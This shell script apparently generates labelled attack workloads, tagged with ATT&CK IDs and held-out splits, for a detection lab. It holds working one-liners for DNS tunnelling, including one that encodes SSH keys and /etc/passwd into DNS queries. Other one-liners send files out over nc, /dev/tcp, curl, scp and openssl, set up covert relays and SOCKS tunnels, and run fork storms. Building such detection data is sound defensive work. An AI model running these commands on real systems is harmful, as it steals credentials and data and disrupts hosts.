# What leaves: names with data in them, files, other people's connections.
behaviour dns-tunnel T1071.004
dns() { local j=$1 l=$2; shift 2; job "$j" "$l" "$@"; eval "beside_$j() { exec python3 /lab/src/dns.py 53; }"; }
for s in fresh kept resolver; do eval "dns_python_$s() { exec \"\$(as python3)\" /lab/src/bad.py dns $s \"\$(pick 0 .01 .1 .5)\"; }"; done
dns dns_python_fresh python; dns dns_python_kept python; dns dns_python_resolver python held-out
dns dns_dig shell;      dns_dig() { local p; p=$(pick 0 50 300); while :; do for c in $(head -c 600 /dev/urandom | base32 -w 50 | tr -d =); do dig +short +tries=1 +time=1 @127.0.0.1 "$c.t.example" "$(pick A TXT)"; nap "$p"; done; done; }
dns dns_dig_file shell; dns_dig_file() { while :; do for f in /home/*/.ssh/* /etc/passwd /home/*/Documents/*; do base64 -w 60 "$f" | tr '+/=' '-_.' | while read -r l; do dig +short "$l.x.example" >/dev/null; done; done; done; }
dns dns_host shell held-out; dns_host() { while :; do host -W 1 "$(od -An -tx1 -N28 /dev/urandom | tr -d " \n").t.example" >/dev/null; nap "$(pick 0 100)"; done; }
dns dns_getent shell;   dns_getent() { while :; do getent hosts "$(head -c 28 /dev/urandom | md5sum | cut -c1-32).$(date +%N).t.example" >/dev/null; nap "$(pick 0 100)"; done; }
dns dns_perl perl;      dns_perl() { exec "$(as perl)" /lab/src/bad.pl dns "$(pick 0 .02 .2)"; }
dns dns_ruby ruby held-out; dns_ruby() { exec "$(as ruby)" /lab/src/bad.rb dns "$(pick 0 .1)"; }
dns dns_node node;      dns_node() { exec "$(as node)" /lab/src/bad.js dns "$(pick 0 20 200)" txt; }
dns dns_node_lookup node; dns_node_lookup() { exec "$(as node)" /lab/src/bad.js dns "$(pick 0 20 200)" lookup; }
dns dns_php php;        dns_php() { exec "$(as php)" /lab/src/bad.php dns "$(pick 0 20000 200000)"; }
dns dns_go go;          dns_go() { exec "$(bin bad-go)" dns "$(pick 0 10000 100000)"; }
dns dns_c c;            dns_c() { exec "$(bin misc)" dns "$(pick 0 1000 10000 100000)"; }
job dns_dns2tcp tool held-out
beside_dns_dns2tcp() { printf 'listen = 127.0.0.1\nport = 53\nuser = root\nchroot = /tmp\ndomain = t.example\nresources = web:127.0.0.1:8444\n' > d.conf; python3 /lab/src/echo.py 8444 & dns2tcpd -F -f d.conf & sleep 3; exec python3 /lab/src/come.py 2200; }
dns_dns2tcp() { exec "$(as dns2tcpc)" -r web -z t.example -l 2200 127.0.0.1; }

behaviour exfiltration T1048
out() { local j=$1 l=$2; shift 2; job "$j" "$l" "$@"; eval "beside_$j() { exec python3 /lab/src/sink.py 9009; }; prepare_$j() { victims; }"; }
out send_tar_nc shell;   send_tar_nc() { local p; p=$(pick 0 300 2000); while :; do tar c"$(pick z f zf | tr -d f)"f - "$(pick v /etc /home)" 2>/dev/null | nc -N 10.9.0.1 9009; nap "$p"; done; }
out send_nc_files shell; send_nc_files() { local p; p=$(pick 0 30 200); while :; do for f in $(find v -type f); do nc -N 10.9.0.1 9009 < "$f"; nap "$p"; done; done; }
out send_devtcp shell;   send_devtcp() { while :; do for f in $(find v -type f); do base64 "$f" > /dev/tcp/10.9.0.1/9009; nap "$(pick 0 20)"; done; done; }
out send_curl shell;     send_curl() { while :; do for f in $(find v /home -type f); do curl -s -o o -T "$f" http://10.9.0.1:9009/up; nap "$(pick 0 0 50)"; done; done; }
out send_curl_form shell; send_curl_form() { while :; do tar czf a.tgz v; split -b 200k a.tgz part.; for f in part.*; do curl -s -o o -F "file=@$f" http://10.9.0.1:9009/; nap "$(pick 0 100)"; done; rm a.tgz part.*; done; }
out send_wget shell held-out; send_wget() { while :; do for f in $(find v -type f); do wget -q -O o --post-file="$f" http://10.9.0.1:9009/; done; done; }
for s in zip post chunk slow; do eval "send_python_$s() { exec \"\$(as python3)\" /lab/src/bad.py send $s 9009 v; }"; done
out send_python_zip python; out send_python_post python; out send_python_chunk python; out send_python_slow python held-out
out send_perl perl;      send_perl() { exec "$(as perl)" /lab/src/bad.pl send 9009 v; }
out send_ruby ruby held-out; send_ruby() { exec "$(as ruby)" /lab/src/bad.rb send 9009 v; }
out send_node node;      send_node() { exec "$(as node)" /lab/src/bad.js send 9009 v; }
out send_php php;        send_php() { exec "$(as php)" /lab/src/bad.php send 9009 v; }
out send_go go;          send_go() { exec "$(bin bad-go)" send 9009 v; }
out send_c c;            send_c() { exec "$(bin misc)" send 9009 v; }
out send_socat shell held-out; send_socat() { while :; do for f in $(find v -type f); do socat -u FILE:"$f" TCP:10.9.0.1:9009; done; done; }
job send_scp shell;      prepare_send_scp() { victims; }; beside_send_scp() { exec /usr/sbin/sshd -D -p 2222; }; send_scp() { while :; do scp -q -P 2222 -r v root@127.0.0.1:/tmp/in; nap "$(pick 0 500)"; for f in $(find v -type f | head -20); do scp -q -P 2222 "$f" root@127.0.0.1:/tmp/; done; done; }
job send_rsync shell;    prepare_send_rsync() { victims; }; beside_send_rsync() { mkdir in; printf 'port=8730\nuse chroot=no\n[in]\npath=/job/in\nread only=no\nuid=0\n' > r.conf; exec rsync --daemon --no-detach --config=r.conf; }; send_rsync() { while :; do rsync -a --ignore-times v /home rsync://127.0.0.1:8730/in; done; }
job send_openssl shell;  prepare_send_openssl() { victims; }; beside_send_openssl() { openssl req -x509 -newkey rsa:2048 -nodes -days 9 -subj /CN=x -keyout k -out c 2>/dev/null; while :; do openssl s_server -quiet -accept 9443 -key k -cert c >/dev/null </dev/null; done; }; send_openssl() { sleep 1; while :; do tar czf - v | timeout 9 openssl s_client -quiet -connect 10.9.0.1:9443; nap 200; done; }
job send_lftp shell held-out; prepare_send_lftp() { victims; }; beside_send_lftp() { mkdir -p /srv/in; chmod 777 /srv/in; printf 'listen=YES\nlisten_port=2121\nlocal_enable=YES\nwrite_enable=YES\nseccomp_sandbox=NO\npam_service_name=none\nanonymous_enable=YES\nanon_root=/srv\nanon_upload_enable=YES\nno_anon_password=YES\nanon_mkdir_write_enable=YES\nsecure_chroot_dir=/tmp\n' > /job/f.conf; exec vsftpd /job/f.conf; }; send_lftp() { while :; do lftp -e "mirror -R v in/$RANDOM; quit" ftp://127.0.0.1:2121; done; }

behaviour network-relay T1090
via() { local j=$1 l=$2; shift 2; job "$j" "$l" "$@"; eval "beside_$j() { python3 /lab/src/echo.py 8444 & exec python3 /lab/src/come.py 8443; }"; }
via relay_socat tool;        relay_socat() { exec "$(as socat)" TCP-LISTEN:8443,fork,reuseaddr TCP:10.9.0.1:8444; }
via relay_socat_big tool held-out; relay_socat_big() { exec "$(as socat)" -b 65536 TCP4-LISTEN:8443,fork,reuseaddr,nodelay TCP4:10.9.0.1:8444,nodelay; }
via relay_c_fork c;          relay_c_fork() { exec "$(bin relay)" fork 8443 8444; }
via relay_c_poll c;          relay_c_poll() { exec "$(bin relay)" poll 8443 8444; }
via relay_c_splice c held-out; relay_c_splice() { exec "$(bin relay)" splice 8443 8444; }
via relay_go go;             relay_go() { exec "$(bin bad-go)" relay 8443 8444; }
via relay_rust rust held-out; relay_rust() { exec "$(bin bad-rs)" relay 8443 8444; }
via relay_python python;     relay_python() { exec "$(as python3)" /lab/src/bad.py relay threads 8443 8444; }
via relay_python_select python; relay_python_select() { exec "$(as python3)" /lab/src/bad.py relay select 8443 8444; }
job relay_python_socks python; beside_relay_python_socks() { python3 /lab/src/echo.py 8444 & exec python3 /lab/src/come.py 1080 socks; }; relay_python_socks() { exec "$(as python3)" /lab/src/bad.py relay async 1080 8444; }
via relay_perl perl;         relay_perl() { exec "$(as perl)" /lab/src/bad.pl relay 8443 8444; }
via relay_ruby ruby held-out; relay_ruby() { exec "$(as ruby)" /lab/src/bad.rb relay 8443 8444; }
via relay_node node;         relay_node() { exec "$(as node)" /lab/src/bad.js relay 8443 8444; }
via relay_php php;           relay_php() { exec "$(as php)" /lab/src/bad.php relay 8443 8444; }
via relay_nc_fifo shell;     relay_nc_fifo() { mkfifo f; while :; do nc -l 127.0.0.1 8443 < f | nc 10.9.0.1 8444 > f; done; }
via relay_ncat shell held-out; relay_ncat() { exec ncat -lk 127.0.0.1 8443 --sh-exec 'ncat 10.9.0.1 8444'; }
job relay_ssh_socks tool;    beside_relay_ssh_socks() { /usr/sbin/sshd -p 2222; python3 /lab/src/echo.py 8444 & exec python3 /lab/src/come.py 1080 socks; }; relay_ssh_socks() { exec "$(as ssh)" -N -D 1080 -p 2222 root@127.0.0.1; }
job relay_ssh_remote tool;   beside_relay_ssh_remote() { /usr/sbin/sshd -p 2222; python3 /lab/src/echo.py 8444 & exec python3 /lab/src/come.py 8443; }; relay_ssh_remote() { exec "$(as ssh)" -N "$(pick -R -L)" 8443:10.9.0.1:8444 -p 2222 root@127.0.0.1; }

behaviour fork-storm T1499.001
job storm_bash shell;   storm_bash() { while :; do for i in {1..40}; do (:) & done; wait; nap "$(pick 0 10 100)"; done; }
job storm_sh shell;     storm_sh() { exec sh -c 'f() { i=0; while [ $i -lt 60 ]; do sleep 0.1 & i=$((i+1)); done; wait; f2; }; f2() { while :; do i=0; while [ $i -lt 60 ]; do true & /bin/true & i=$((i+1)); done; wait; done; }; f'; }
job storm_c c;          storm_c() { exec "$(bin misc)" storm "$(pick 10 60)" "$(pick 1000 10000 50000)"; }
job storm_python python; storm_python() { exec "$(as python3)" /lab/src/bad.py storm "$(pick 10 50)" "$(pick .01 .1)"; }
job storm_perl perl;    storm_perl() { exec "$(as perl)" /lab/src/bad.pl storm "$(pick 10 40)" "$(pick .01 .1)"; }
job storm_ruby ruby held-out; storm_ruby() { exec "$(as ruby)" /lab/src/bad.rb storm "$(pick 10 40)" "$(pick .01 .1)"; }
job storm_node node;    storm_node() { exec "$(as node)" /lab/src/bad.js storm "$(pick 5 20)" "$(pick 10 100)"; }
job storm_php php held-out; storm_php() { exec "$(as php)" /lab/src/bad.php storm "$(pick 5 30)" "$(pick 1000 50000)"; }
job storm_go go;        storm_go() { exec "$(bin bad-go)" storm "$(pick 5 40)" "$(pick 5000 50000)"; }
job storm_xargs shell held-out; storm_xargs() { while :; do seq 4000 | xargs -P "$(pick 4 16)" -n 1 true; done; }
